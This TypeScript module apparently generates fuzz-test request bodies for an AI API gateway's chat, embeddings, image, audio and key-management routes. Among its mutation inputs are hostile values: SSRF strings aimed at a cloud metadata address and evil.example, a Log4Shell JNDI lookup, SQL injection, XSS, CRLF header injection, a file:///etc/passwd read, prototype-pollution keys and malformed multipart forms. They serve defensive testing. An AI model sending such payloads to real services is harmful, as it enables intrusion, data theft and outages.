import fc from "fast-check";
import { multipart, TINY_AUDIO, TINY_PNG } from "./kit.ts";

/** Placeholders a generator writes where the gateway's real keys go; the sender swaps them in. */
export const INFERENCE_KEY_MARK = "@@INFERENCE_KEY@@";
export const MANAGEMENT_KEY_MARK = "@@MANAGEMENT_KEY@@";

/** One request body as the fuzz sends it, and how it was made (for the tallies and for a failure's report). */
export interface BodyCase {
  kind: string;
  body: Buffer;
  contentType: string;
}

export interface JsonRoute {
  method: "POST" | "PATCH";
  path: string;
  /** A body the route accepts as it is; mutations start from here. */
  valid: Record<string, unknown>;
  /** Answers with a cost in x-svc-cost-micros when it succeeds. */
  billed: boolean;
  /** Tells apart two bodies tried on one route. */
  label?: string;
}

export const CHAT_MODEL = "openai/gpt-4o";
export const NATIVE_MODEL = "anthropic/claude-haiku-4-5";
export const GEMINI_MODEL = "google/gemini-2.5-flash-lite";

/**
 * A conversation of more than 1 KiB (SCANNED_BODY_MIN), so its body is scanned as bytes rather than parsed whole
 * (readForwardedBody, readChatRequestBody); mutations of its first message leave the long second one in place.
 */
const longConversation = [
  { role: "user", content: [{ type: "text", text: "hi" }] },
  { role: "assistant", content: `Voilà ✓ ${"a long answer, ".repeat(100)}` },
  { role: "user", content: "go on" },
];

/** A coding agent's kind of tools: schemas with what Gemini's translation changes, non-ASCII in a description. */
const agentTools = [
  { type: "function", function: { name: "read", description: "Lit un fichier ✓", parameters: { $schema: "https://json-schema.org/draft/2020-12/schema", type: "object", properties: { path: { type: "string" } }, required: ["path"] } } },
  { type: "function", function: { name: "ls", parameters: { type: "object", properties: { mode: { const: "all" } } } } },
];

export const JSON_ROUTES: readonly JsonRoute[] = [
  { method: "POST", path: "/v1/chat/completions", billed: true, valid: { model: CHAT_MODEL, messages: [{ role: "user", content: "hi" }], max_tokens: 16 } },
  { method: "POST", path: "/v1/chat/completions", label: "a long conversation", billed: true, valid: { model: CHAT_MODEL, messages: longConversation, max_tokens: 16 } },
  {
    method: "POST",
    path: "/v1/chat/completions",
    label: "a long conversation for a Claude model",
    billed: true,
    // long texts before the closing turn: the gateway sets them aside while it translates (routes/chat-body-bytes.ts)
    valid: { model: NATIVE_MODEL, messages: [{ role: "user", content: [{ type: "text", text: `Lis ✓ ${"du texte, ".repeat(120)}` }] }, { role: "assistant", content: "ok" }, ...longConversation], max_tokens: 16 },
  },
  {
    method: "POST",
    path: "/v1/chat/completions",
    label: "a long conversation with tool results for a Gemini model",
    billed: true,
    // long texts and tool results, one a file and one JSON: set aside or read while it translates (routes/chat-body-bytes.ts)
    valid: {
      model: GEMINI_MODEL,
      messages: [
        { role: "user", content: `Lis ✓ ${"du texte, ".repeat(120)}` },
        { role: "assistant", content: null, tool_calls: [{ id: "c1", type: "function", function: { name: "read", arguments: "{}" } }] },
        { role: "tool", tool_call_id: "c1", content: `     1→const é = 1;\n${"     2→// du code\n".repeat(60)}` },
        { role: "tool", tool_call_id: "c1", content: JSON.stringify({ files: Array.from({ length: 60 }, (_, i) => `f${i}.ts`) }) },
        ...longConversation,
      ],
      max_tokens: 16,
    },
  },
  {
    method: "POST",
    path: "/v1/chat/completions",
    label: "a long conversation with tools for a Claude model",
    billed: true,
    // tools a key sends again, byte for byte, are remembered as they were written (routes/tools-memo.ts)
    valid: { model: NATIVE_MODEL, tools: agentTools, tool_choice: "auto", messages: longConversation, max_tokens: 16 },
  },
  {
    method: "POST",
    path: "/v1/chat/completions",
    label: "a long conversation with tools for a Gemini model",
    billed: true,
    valid: { model: GEMINI_MODEL, tools: agentTools, tool_choice: { type: "function", function: { name: "read" } }, messages: longConversation, max_tokens: 16 },
  },
  { method: "POST", path: "/v1/messages", billed: true, valid: { model: NATIVE_MODEL, max_tokens: 16, messages: [{ role: "user", content: "hi" }] } },
  { method: "POST", path: "/v1/messages", label: "a long conversation", billed: true, valid: { model: NATIVE_MODEL, max_tokens: 16, messages: longConversation } },
  { method: "POST", path: "/v1/messages/count_tokens", billed: true, valid: { model: NATIVE_MODEL, messages: [{ role: "user", content: "hi" }] } },
  { method: "POST", path: "/v1/embeddings", billed: true, valid: { model: "openai/text-embedding-3-small", input: "hello" } },
  { method: "POST", path: "/v1/images/generations", billed: true, valid: { model: "openai/gpt-image-1-mini", prompt: "a lighthouse at dusk", n: 1, size: "1024x1024" } },
  {
    method: "POST",
    path: "/v1/images/edits",
    billed: true,
    valid: { model: "openai/gpt-image-1-mini", prompt: "make it blue", images: [{ image_url: `data:image/png;base64,${TINY_PNG.toString("base64")}` }] },
  },
  { method: "POST", path: "/v1/management/keys", billed: false, valid: { name: "fuzz", models: [CHAT_MODEL], limits: { monthly_budget_micros: 1_000 } } },
  { method: "PATCH", path: "/v1/management/keys/{id}", billed: false, valid: { name: "renamed", limits: { requests_per_minute: 100 } } },
];

/** Field names worth trying on any route: the ones routes act on, ones that steer upstream calls, and prototype keys. */
const COMMON_KEYS = [
  "model",
  "messages",
  "stream",
  "stream_options",
  "max_tokens",
  "max_completion_tokens",
  "input",
  "prompt",
  "n",
  "size",
  "dimensions",
  "encoding_format",
  "response_format",
  "tools",
  "tool_choice",
  "images",
  "mask",
  "system",
  "base_url",
  "api_base",
  "url",
  "headers",
  "name",
  "models",
  "limits",
  "limits.monthly_budget_micros",
  "messages.0",
  "messages.0.content",
  "messages.0.role",
  "messages.0.content.0.type",
  "messages.0.content.0.cache_control",
  "messages.0.tool_calls",
  "messages.0.cache_control",
  "messages.1",
  "images.0.image_url",
  "__proto__",
  "constructor",
  "prototype",
];

export const SSRF_STRINGS = [
  "http://169.254.169.254/latest/meta-data/",
  "openai/../../x",
  "openai/gpt-4o?x=@evil.example",
  "openai/gpt-4o#@evil.example",
  "//evil.example/v1",
  "http://evil.example/v1/chat/completions",
  "openai%2F..%2F..%2Fx",
  "openai/gpt-4o/../../../admin",
  "openai/gpt-4o\r\nHost: evil.example",
  "file:///etc/passwd",
];

const NUMBERS = [1e308, -1e308, 2 ** 53 + 2, -(2 ** 53), 0, -0, 5e-324, 4_294_967_296, -1, 0.5, 1e21, 123456789012345680000];

const keyShaped = fc.stringMatching(/^[A-Za-z0-9]{40}$/).map((s) => `svc_${s}`);

export const hostileString = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  keyShaped,
  fc.constantFrom(
    "",
    " ",
    "\u0000",
    "\ud800",
    "\uffff",
    "x".repeat(100_000),
    "é".repeat(20_000),
    INFERENCE_KEY_MARK,
    MANAGEMENT_KEY_MARK,
    `Bearer ${INFERENCE_KEY_MARK}`,
    "__proto__",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE keys; --",
    "<script>alert(1)</script>",
    CHAT_MODEL,
    NATIVE_MODEL,
    "openai/text-embedding-3-small",
    "whisper-1",
    ...SSRF_STRINGS,
  ),
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 2, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 3, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileString, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }) },
);

type Op = { op: "delete"; path: string } | { op: "set"; path: string; value: unknown };

function keyNames(valid: Record<string, unknown>): fc.Arbitrary<string> {
  return fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...Object.keys(valid), ...COMMON_KEYS) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }) });
}

/** Applies set/delete at dotted paths, creating containers on the way (as a confused client would). */
function apply(valid: Record<string, unknown>, ops: readonly Op[]): Record<string, unknown> {
  const out = structuredClone(valid);
  for (const o of ops) {
    const parts = o.path.split(".");
    let node: Record<string, unknown> = out;
    for (const p of parts.slice(0, -1)) {
      const next = node[p];
      if (next === null || typeof next !== "object") node[p] = {};
      node = node[p] as Record<string, unknown>;
    }
    const last = parts[parts.length - 1]!;
    // defineProperty: "__proto__" must become an own field of the JSON, not this object's prototype. A copy of the
    // value: fast-check hands out the same `[]` and `{}` each time, and a later op's path could walk into one and set
    // it inside itself (a circular body that JSON.stringify refused), or change the constant for every later case
    if (o.op === "delete") delete node[last];
    else Object.defineProperty(node, last, { value: structuredClone(o.value), enumerable: true, writable: true, configurable: true });
  }
  // a streamed answer states its cost only inside the stream; the money check here needs it in a header
  if (out.stream === true) delete out.stream;
  return out;
}

export function mutatedObject(valid: Record<string, unknown>): fc.Arbitrary<Record<string, unknown>> {
  const op: fc.Arbitrary<Op> = fc.oneof(
    fc.record({ op: fc.constant("delete" as const), path: keyNames(valid) }),
    { weight: 3, arbitrary: fc.record({ op: fc.constant("set" as const), path: keyNames(valid), value: hostileValue }) },
  );
  return fc.array(op, { minLength: 1, maxLength: 4 }).map((ops) => apply(valid, ops));
}

/** Byte sequences that are not UTF-8: a lone continuation, overlong forms, an encoded surrogate, bytes never used. */
const INVALID_UTF8 = [[0x80], [0xc0, 0xaf], [0xe0, 0x80, 0xaf], [0xed, 0xa0, 0x80], [0xff], [0xfe, 0xff], [0xc3], [0xf4, 0x90, 0x80, 0x80]].map((b) => Buffer.from(b));

const corruption = fc.record({
  mode: fc.constantFrom("truncate", "insert-invalid-utf8", "replace-byte", "insert-in-string"),
  at: fc.double({ min: 0, max: 1, noNaN: true }),
  bytes: fc.constantFrom(...INVALID_UTF8),
  byte: fc.integer({ min: 0, max: 255 }),
});

function corrupt(text: string, c: { mode: string; at: number; bytes: Buffer; byte: number }): Buffer {
  const buf = Buffer.from(text);
  const i = Math.min(buf.length, Math.floor(c.at * buf.length));
  switch (c.mode) {
    case "truncate":
      return buf.subarray(0, i);
    case "replace-byte": {
      const copy = Buffer.from(buf);
      if (i < copy.length) copy[i] = c.byte;
      return copy;
    }
    case "insert-in-string": {
      // inside the first string value, so the JSON stays well-formed and only its text is broken
      const quote = buf.indexOf(0x22, buf.indexOf(0x3a));
      const at = quote < 0 ? i : quote + 1;
      return Buffer.concat([buf.subarray(0, at), c.bytes, buf.subarray(at)]);
    }
    default:
      return Buffer.concat([buf.subarray(0, i), c.bytes, buf.subarray(i)]);
  }
}

const CONTENT_TYPES = ["application/json", "application/json", "application/json", "application/json; charset=utf-8", "text/plain", "", "application/x-www-form-urlencoded", "multipart/form-data; boundary=zzz", "application/json; charset=utf-16"];

/** Every way a JSON route's body is attacked: arbitrary JSON, mutated valid bodies, broken bytes, duplicate keys, noise. */
export function jsonBodyCase(valid: Record<string, unknown>): fc.Arbitrary<BodyCase> {
  const text = (kind: string, t: string) => ({ kind, body: Buffer.from(t) });
  const shape = fc.oneof(
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => text("arbitrary-json", JSON.stringify(v))) },
    { weight: 5, arbitrary: mutatedObject(valid).map((o) => text("mutated", JSON.stringify(o))) },
    {
      weight: 2,
      arbitrary: fc.tuple(fc.oneof(fc.constant(valid), mutatedObject(valid)), corruption).map(([o, c]) => ({ kind: `bytes-${c.mode}`, body: corrupt(JSON.stringify(o), c) })),
    },
    {
      weight: 2,
      // JSON.parse keeps the last of duplicate keys; both orders are sent, so either reading is exercised
      arbitrary: fc.tuple(fc.constantFrom(...Object.keys(valid)), hostileValue, fc.boolean()).map(([k, v, hostileLast]) => {
        const rest = JSON.stringify(valid).slice(1);
        const dup = `"${k}":${JSON.stringify(v) ?? "null"}`;
        return text("duplicate-key", hostileLast ? `{${rest.slice(0, -1)},${dup}}` : `{${dup},${rest}`);
      }),
    },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 512 }).map((b) => ({ kind: "random-bytes", body: Buffer.from(b) })) },
  );
  return fc.tuple(shape, fc.constantFrom(...CONTENT_TYPES)).map(([s, contentType]) => ({ ...s, contentType }));
}

/** Levels of nesting no client needs and a recursive walker cannot survive. */
export function deepBodies(valid: Record<string, unknown>, levels: number): { kind: string; body: string }[] {
  const arrays = `${"[".repeat(levels)}${"]".repeat(levels)}`;
  const objects = `${'{"a":'.repeat(levels)}1${"}".repeat(levels)}`;
  const head = JSON.stringify(valid).slice(0, -1);
  // placed last: JSON.parse keeps the last of duplicate keys, so the deep value is the one the route reads
  const containers = Object.keys(valid).filter((k) => typeof valid[k] === "object" && valid[k] !== null);
  return [
    { kind: "deep-top-level-array", body: arrays },
    { kind: "deep-top-level-object", body: objects },
    ...containers.map((k) => ({ kind: `deep-in-${k}`, body: `${head},"${k}":${arrays}}` })),
    { kind: "deep-extra-field", body: `${head},"metadata":${objects}}` },
    { kind: "deep-unclosed", body: `${head},"metadata":${"[".repeat(levels)}` },
  ];
}

export interface FormRoute {
  path: string;
  /** The form fields of a valid request, file last. */
  parts: { name: string; value: string | Buffer; filename?: string; type?: string }[];
}

export const FORM_ROUTES: readonly FormRoute[] = [
  {
    path: "/v1/images/edits",
    parts: [
      { name: "model", value: "openai/gpt-image-1-mini" },
      { name: "prompt", value: "make it blue" },
      { name: "image", value: TINY_PNG, filename: "in.png", type: "image/png" },
    ],
  },
  {
    path: "/v1/audio/transcriptions",
    parts: [
      { name: "model", value: "openai/whisper-1" },
      { name: "response_format", value: "json" },
      { name: "file", value: TINY_AUDIO, filename: "speech.mp3", type: "audio/mpeg" },
    ],
  },
];

const BOUNDARY = "hostileBoundary7MA4YWxkTrZu0gW";

/** Hand-written malformed forms: each names one thing a multipart reader must survive. */
export function malformedForms(route: FormRoute): { kind: string; contentType: string; body: Buffer }[] {
  const ct = `multipart/form-data; boundary=${BOUNDARY}`;
  const valid = multipart(BOUNDARY, route.parts);
  const file = route.parts[route.parts.length - 1]!;
  const fields = route.parts.slice(0, -1);
  return [
    { kind: "form-missing-boundary", contentType: "multipart/form-data", body: valid },
    { kind: "form-wrong-boundary", contentType: "multipart/form-data; boundary=notTheOneUsed", body: valid },
    { kind: "form-empty-boundary", contentType: 'multipart/form-data; boundary=""', body: valid },
    { kind: "form-truncated-mid-file", contentType: ct, body: valid.subarray(0, valid.length - Math.floor(file.value.length / 2) - 20) },
    { kind: "form-no-closing-boundary", contentType: ct, body: multipart(BOUNDARY, route.parts, { close: false }) },
    { kind: "form-empty-body", contentType: ct, body: Buffer.alloc(0) },
    { kind: "form-only-closing", contentType: ct, body: Buffer.from(`--${BOUNDARY}--\r\n`) },
    { kind: "form-file-without-filename", contentType: ct, body: multipart(BOUNDARY, [...fields, { ...file, filename: undefined }]) },
    { kind: "form-file-empty-filename", contentType: ct, body: multipart(BOUNDARY, [...fields, { ...file, filename: "" }]) },
    { kind: "form-no-file", contentType: ct, body: multipart(BOUNDARY, fields) },
    { kind: "form-no-model", contentType: ct, body: multipart(BOUNDARY, route.parts.slice(1)) },
    // several pictures are an edit's normal input; a second audio file is not
    ...(route.path === "/v1/audio/transcriptions" ? [{ kind: "form-two-files", contentType: ct, body: multipart(BOUNDARY, [...route.parts, file]) }] : []),
    { kind: "form-duplicate-model", contentType: ct, body: multipart(BOUNDARY, [fields[0]!, { name: "model", value: "openai/gpt-4o" }, ...route.parts.slice(1)]) },
    { kind: "form-parts-after-end", contentType: ct, body: Buffer.concat([valid, multipart(BOUNDARY, [{ name: "model", value: "x" }, file])]) },
    {
      kind: "form-huge-part-header",
      contentType: ct,
      body: Buffer.concat([Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="model"\r\nX-Padding: ${"p".repeat(200_000)}\r\n\r\nopenai/whisper-1\r\n`), valid]),
    },
    { kind: "form-huge-field-name", contentType: ct, body: Buffer.concat([multipart(BOUNDARY, [{ name: "n".repeat(100_000), value: "1" }], { close: false }), valid]) },
    { kind: "form-many-parts", contentType: ct, body: Buffer.concat([multipart(BOUNDARY, Array.from({ length: 5_000 }, (_, i) => ({ name: `f${i}`, value: "v" })), { close: false }), valid]) },
    { kind: "form-invalid-utf8-field", contentType: ct, body: multipart(BOUNDARY, [...fields, { name: "prompt", value: Buffer.from([0xff, 0xfe, 0xc0, 0xaf]) }, file]) },
    { kind: "form-header-without-colon", contentType: ct, body: Buffer.from(`--${BOUNDARY}\r\nthis is not a header\r\n\r\nvalue\r\n--${BOUNDARY}--\r\n`) },
    { kind: "form-json-body", contentType: ct, body: Buffer.from(JSON.stringify({ model: "openai/whisper-1" })) },
    { kind: "form-as-json", contentType: "application/json", body: valid },
    { kind: "form-no-content-type", contentType: "", body: valid },
    { kind: "form-key-in-filename", contentType: ct, body: multipart(BOUNDARY, [...fields, { ...file, filename: `${INFERENCE_KEY_MARK}.bin` }]) },
    { kind: "form-ssrf-model", contentType: ct, body: multipart(BOUNDARY, [{ name: "model", value: SSRF_STRINGS[0]! }, ...route.parts.slice(1)]) },
  ];
}

/** Random damage to a valid form: cut short, bytes flipped or inserted, the boundary line altered. */
export function formCase(route: FormRoute): fc.Arbitrary<BodyCase> {
  const valid = multipart(BOUNDARY, route.parts);
  const ct = `multipart/form-data; boundary=${BOUNDARY}`;
  return fc
    .tuple(corruption, fc.constantFrom(ct, ct, ct, "multipart/form-data", `multipart/form-data; boundary=${BOUNDARY}x`, "multipart/mixed; boundary=" + BOUNDARY))
    .map(([c, contentType]) => ({ kind: `form-${c.mode}`, body: corruptBinary(valid, c), contentType }));
}

function corruptBinary(buf: Buffer, c: { mode: string; at: number; bytes: Buffer; byte: number }): Buffer {
  const i = Math.min(buf.length, Math.floor(c.at * buf.length));
  if (c.mode === "truncate") return buf.subarray(0, i);
  if (c.mode === "replace-byte") {
    const copy = Buffer.from(buf);
    if (i < copy.length) copy[i] = c.byte;
    return copy;
  }
  return Buffer.concat([buf.subarray(0, i), c.bytes, buf.subarray(i)]);
}

export { BOUNDARY };
